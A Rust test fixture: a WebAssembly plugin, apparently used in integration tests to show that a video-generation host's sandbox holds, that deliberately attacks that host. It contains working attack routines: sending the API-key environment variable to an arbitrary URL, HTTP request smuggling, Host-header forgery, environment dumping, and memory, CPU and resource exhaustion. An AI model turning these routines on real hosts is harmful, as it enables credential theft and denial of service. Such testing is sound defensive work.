//! A component that implements `videogen:api/video-gen` but attacks its host.
//!
//! The integration tests run it in the real host to prove the sandbox. `submit` reads its
//! command from the request's prompt:
//!
//! | prompt | what it tries |
//! |---|---|
//! | `reach URL` | a GET to any URL (other hosts, ports, metadata addresses) |
//! | `call METHOD URL AUTH` | any method to URL, `Authorization` set to AUTH (`$KEY` is the key it was given, `-` none, `\|\|` between repeated values); reports the status and the body it got back |
//! | `follow URL` | a GET with its key, then a GET to wherever a redirect points |
//! | `forge-host URL HOST` | a GET with a forged `Host` header |
//! | `env` | report its whole environment |
//! | `exfiltrate URL` | POST what it found in `EMPIRIOLABS_API_KEY` to URL, in a header and the body |
//! | `parallel N URL` | N GETs with its key in flight at once |
//! | `spin` | loop forever |
//! | `hog` | allocate without bound (its own memory) |
//! | `fields N BYTES` | make the host hold N header sets of about BYTES each |
//! | `bodies N` | make the host hold N request bodies, each written until it stops taking more |
//! | `pollables N` | make the host hold N timers |
//! | `random N` | ask the host for N random bytes at once |
//! | `lift N` | one `fields.from-list` call naming the same 1 MiB value N times (the host copies each) |
//! | `stderr N` | write N bytes to stderr |
//!
//! It answers `Ok(report)` with what happened, or the transport error the host gave it.

// The helpers return the WIT `error` the exports must return; boxing it would only add
// noise to a test fixture.
#![allow(clippy::result_large_err)]

wit_bindgen::generate!({
    path: "../../../wit",
    world: "empiriolabs:happyhorse/happyhorse",
});

use exports::videogen::api::video_gen::{
    ClientConfig, CostEstimate, Error, Guest, JobId, JobResult, JobStatus, ResolutionRate,
    TransportFailure, TransportKind, ValidatedRequest, VideoRequest,
};
use waki::ErrorCode;
use waki::bindings::wasi::http::types::Fields;

struct Hostile;

fn denied_or(error: waki::ErrorCode) -> TransportKind {
    match error {
        ErrorCode::HttpRequestDenied => TransportKind::Denied,
        ErrorCode::ConnectionRefused | ErrorCode::ConnectionLimitReached => TransportKind::Connect,
        _ => TransportKind::Other,
    }
}

fn transport(e: anyhow::Error) -> Error {
    let kind = e
        .downcast_ref::<ErrorCode>()
        .cloned()
        .map_or(TransportKind::Other, denied_or);
    Error::TransportError(TransportFailure {
        kind,
        message: e.to_string(),
    })
}

/// The host's error code for a request, as the WIT error.
fn refused(code: ErrorCode) -> Error {
    Error::TransportError(TransportFailure {
        kind: denied_or(code.clone()),
        message: format!("{code:?}"),
    })
}

fn get(url: &str) -> Result<waki::Response, Error> {
    waki::Client::new().get(url).send().map_err(transport)
}

/// What the plugin found in its key variable (a placeholder, in the sandbox).
fn key() -> String {
    std::env::var("EMPIRIOLABS_API_KEY").unwrap_or_default()
}

/// A GET carrying the key the way the real component sends it.
fn get_with_key(url: &str) -> Result<waki::Response, Error> {
    waki::Client::new()
        .get(url)
        .header("authorization", format!("Bearer {}", key()))
        .send()
        .map_err(transport)
}

fn run(command: &str) -> Result<String, Error> {
    let mut words = command.split_whitespace();
    match (words.next(), words.next(), words.next()) {
        (Some("reach"), Some(url), _) => get(url).map(|r| format!("status {}", r.status_code())),
        (Some("call"), Some(method), Some(url)) => {
            let auth = words.collect::<Vec<_>>().join(" ");
            call(method, url, &auth, None)
        }
        (Some("smuggle"), Some(url), declared) => {
            // A GET (or the method named after `declared`) with the key, and a body after it
            // that a gateway reading the stream naively would take for a second request, one
            // without the key's checks; with `declared`, its Content-Length set too.
            let method = words.next().unwrap_or("GET");
            let second = "GET /v1/account/usage HTTP/1.1\r\nhost: smuggled\r\n\r\n";
            let body = Body {
                bytes: second.as_bytes(),
                declared: declared == Some("declared"),
            };
            call(method, url, "Bearer $KEY", Some(body))
        }
        (Some("follow"), Some(url), _) => {
            let first = get_with_key(url)?;
            let location = first
                .header("location")
                .and_then(|v| v.to_str().ok())
                .map(str::to_string);
            match location {
                Some(next) => get(&next).map(|r| format!("followed to status {}", r.status_code())),
                None => Ok(format!("no redirect: status {}", first.status_code())),
            }
        }
        (Some("forge-host"), Some(_url), Some(host)) => {
            // WASI-HTTP must refuse the header itself; report exactly what happened.
            match Fields::from_list(&[("host".to_string(), host.as_bytes().to_vec())]) {
                Ok(_) => Ok("forged Host header accepted".into()),
                Err(e) => Ok(format!("forged Host header refused: {e:?}")),
            }
        }
        (Some("env"), _, _) => Ok(std::env::vars()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("\n")),
        (Some("exfiltrate"), Some(url), _) => {
            let found = std::env::var("EMPIRIOLABS_API_KEY").unwrap_or_default();
            waki::Client::new()
                .post(url)
                .header("authorization", format!("Bearer {found}"))
                .body(found.clone().into_bytes())
                .send()
                .map(|r| format!("sent {found} : status {}", r.status_code()))
                .map_err(transport)
        }
        (Some("parallel"), Some(n), Some(url)) => parallel(n.parse().unwrap_or(1), url),
        (Some("spin"), _, _) => {
            let mut x: u64 = 0;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }
        (Some("hog"), _, _) => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        (Some("fields"), Some(n), Some(bytes)) => Ok(hold_fields(
            n.parse().unwrap_or(1),
            bytes.parse().unwrap_or(1024),
        )),
        (Some("bodies"), Some(n), _) => Ok(hold_bodies(n.parse().unwrap_or(1))),
        (Some("pollables"), Some(n), _) => Ok(hold_pollables(n.parse().unwrap_or(1))),
        (Some("random"), Some(n), _) => {
            let bytes =
                waki::bindings::wasi::random::random::get_random_bytes(n.parse().unwrap_or(1));
            Ok(format!("got {} random bytes", bytes.len()))
        }
        (Some("lift"), Some(n), _) => Ok(lift(n.parse().unwrap_or(1))),
        (Some("stderr"), Some(n), _) => {
            use std::io::Write;
            let chunk = [b'e'; 4096];
            let mut written = 0usize;
            let total: usize = n.parse().unwrap_or(1);
            while written < total {
                if std::io::stderr().write_all(&chunk).is_err() {
                    return Ok(format!("stderr refused more after {written} bytes"));
                }
                written += chunk.len();
            }
            Ok(format!("wrote {written} bytes to stderr"))
        }
        _ => Err(Error::ExecutionFailed),
    }
}

/// Start `n` GETs before waiting for any, and report how each ended.
fn parallel(n: usize, url: &str) -> Result<String, Error> {
    use waki::bindings::wasi::http::outgoing_handler::handle;
    use waki::bindings::wasi::http::types::{OutgoingRequest, Scheme};
    let rest = url.strip_prefix("http://").unwrap_or(url);
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let mut futures = Vec::new();
    for _ in 0..n {
        let headers = Fields::new();
        let _ = headers.append(
            &"authorization".to_string(),
            &format!("Bearer {}", key()).into_bytes(),
        );
        let request = OutgoingRequest::new(headers);
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(path));
        futures.push(handle(request, None));
    }
    let mut report = Vec::new();
    for future in futures {
        let outcome = match future {
            Err(code) => format!("{code:?}"),
            Ok(future) => loop {
                match future.get() {
                    Some(Ok(Ok(response))) => break format!("status {}", response.status()),
                    Some(Ok(Err(code))) => break format!("{code:?}"),
                    Some(Err(())) => break "taken".to_string(),
                    None => future.subscribe().block(),
                }
            },
        };
        report.push(outcome);
    }
    Ok(report.join("\n"))
}

/// A body a call streams, and whether its length is declared in a `Content-Length`.
struct Body<'a> {
    bytes: &'a [u8],
    declared: bool,
}

/// Send `method` to `url` with `Authorization` values from `auth` (and `payload`, if any), and
/// report the status, whether the host took the body, and the answer's body (what an echoing
/// server would hand back).
fn call(method: &str, url: &str, auth: &str, payload: Option<Body>) -> Result<String, Error> {
    use waki::bindings::wasi::http::outgoing_handler::handle;
    use waki::bindings::wasi::http::types::{Method, OutgoingBody, OutgoingRequest, Scheme};
    let rest = url.strip_prefix("http://").unwrap_or(url);
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let headers = Fields::new();
    if auth != "-" {
        for value in auth.split("||") {
            let value = value.trim().replace("$KEY", &key());
            let _ = headers.append(&"authorization".to_string(), &value.into_bytes());
        }
    }
    if let Some(Body {
        bytes,
        declared: true,
    }) = &payload
    {
        let _ = headers.append(
            &"content-length".to_string(),
            &bytes.len().to_string().into_bytes(),
        );
    }
    let request = OutgoingRequest::new(headers);
    let method = match method {
        "GET" => Method::Get,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "DELETE" => Method::Delete,
        "HEAD" => Method::Head,
        "OPTIONS" => Method::Options,
        "TRACE" => Method::Trace,
        other => Method::Other(other.to_string()),
    };
    let _ = request.set_method(&method);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(path));
    let body = request.body().map_err(|()| Error::ExecutionFailed)?;
    // Half the body before the request is handed over (so the host sees one waiting), half
    // after, as a streamed body goes; whether the host took it is reported with the answer.
    let stream = body.write().map_err(|()| Error::ExecutionFailed)?;
    let (before, after) = payload
        .as_ref()
        .map_or((&[][..], &[][..]), |p| p.bytes.split_at(p.bytes.len() / 2));
    let wrote_before = stream.blocking_write_and_flush(before).is_ok();
    let future = handle(request, None).map_err(refused)?;
    let wrote_after = stream.blocking_write_and_flush(after).is_ok();
    drop(stream);
    let wrote = payload.as_ref().map(|_| wrote_before && wrote_after);
    let _ = OutgoingBody::finish(body, None);
    let response = loop {
        match future.get() {
            Some(Ok(Ok(response))) => break response,
            Some(Ok(Err(code))) => return Err(refused(code)),
            Some(Err(())) => return Err(Error::ExecutionFailed),
            None => future.subscribe().block(),
        }
    };
    let status = response.status();
    let mut text = Vec::new();
    if let Ok(body) = response.consume()
        && let Ok(stream) = body.stream()
    {
        while let Ok(chunk) = stream.blocking_read(64 * 1024) {
            text.extend_from_slice(&chunk);
            if text.len() > 1 << 20 {
                break;
            }
        }
    }
    let wrote = match wrote {
        None => "",
        Some(true) => " (body taken)",
        Some(false) => " (body refused)",
    };
    Ok(format!(
        "status {status}{wrote}: {}",
        String::from_utf8_lossy(&text)
    ))
}

/// Header sets kept alive until the call ends, each about `bytes` as WASI-HTTP counts them
/// (names and values plus the size of their Rust types: ~80 bytes a header).
fn hold_fields(n: usize, bytes: usize) -> String {
    let value = vec![b'v'; 1024];
    let mut held = Vec::new();
    for _ in 0..n {
        let fields = Fields::new();
        let mut size = 0;
        for i in 0.. {
            let name = format!("x-pad-{i}");
            let cost = name.len() + value.len() + 80;
            if size + cost > bytes || fields.append(&name, &value).is_err() {
                break;
            }
            size += cost;
        }
        held.push(fields);
    }
    format!("held {} header sets", held.len())
}

/// Requests never sent, each with as much body written as the host will buffer.
fn hold_bodies(n: usize) -> String {
    use waki::bindings::wasi::http::types::{Method, OutgoingRequest};
    let chunk = vec![b'b'; 1 << 20];
    let mut held = Vec::new();
    let mut buffered = 0usize;
    for _ in 0..n {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_method(&Method::Post);
        let Ok(body) = request.body() else { break };
        let Ok(stream) = body.write() else { break };
        // Write while the host says it has room: nothing drains it, the request is never sent.
        while let Ok(permit) = stream.check_write() {
            let n = (permit as usize).min(chunk.len());
            if n == 0 || stream.write(&chunk[..n]).is_err() {
                break;
            }
            buffered += n;
        }
        held.push((request, body, stream));
    }
    format!("held {} bodies, {buffered} bytes written", held.len())
}

/// Timers kept alive until the call ends.
fn hold_pollables(n: usize) -> String {
    use waki::bindings::wasi::clocks::monotonic_clock::subscribe_duration;
    let held: Vec<_> = (0..n)
        .map(|_| subscribe_duration(3_600_000_000_000))
        .collect();
    format!("held {} timers", held.len())
}

/// One `fields.from-list` naming the same 1 MiB value `n` times: cheap for the guest (the
/// entries alias one buffer), and without a per-call cap the host copies every one of them.
fn lift(n: usize) -> String {
    let mut value = std::mem::ManuallyDrop::new(vec![b'a'; 1 << 20]);
    let (ptr, len, cap) = (value.as_mut_ptr(), value.len(), value.capacity());
    let entries: Vec<std::mem::ManuallyDrop<(String, Vec<u8>)>> = (0..n)
        .map(|i| {
            // SAFETY: every alias is only read (lowered into the call) and never dropped or
            // written; a test fixture attacking its host on purpose.
            let alias = unsafe { Vec::from_raw_parts(ptr, len, cap) };
            std::mem::ManuallyDrop::new((format!("x-{i}"), alias))
        })
        .collect();
    // SAFETY: `ManuallyDrop<T>` has the layout of `T`.
    let entries: &[(String, Vec<u8>)] =
        unsafe { std::slice::from_raw_parts(entries.as_ptr().cast(), entries.len()) };
    match Fields::from_list(entries) {
        Ok(_) => "the host took the whole list".to_string(),
        Err(e) => format!("the host refused the list: {e:?}"),
    }
}

impl Guest for Hostile {
    fn validate(_: VideoRequest) -> Result<ValidatedRequest, Error> {
        Err(Error::ExecutionFailed)
    }
    fn estimate_cost(
        _: VideoRequest,
        _: Option<Vec<ResolutionRate>>,
    ) -> Result<CostEstimate, Error> {
        Err(Error::ExecutionFailed)
    }
    fn submit(_: ClientConfig, request: VideoRequest) -> Result<JobId, Error> {
        run(&request.prompt)
    }
    fn poll(_: ClientConfig, _: JobId) -> Result<JobStatus, Error> {
        Err(Error::ExecutionFailed)
    }
    fn wait(_: ClientConfig, _: JobId) -> Result<JobResult, Error> {
        Err(Error::ExecutionFailed)
    }
    fn generate(_: ClientConfig, _: VideoRequest) -> Result<JobResult, Error> {
        Err(Error::ExecutionFailed)
    }
}

export!(Hostile);
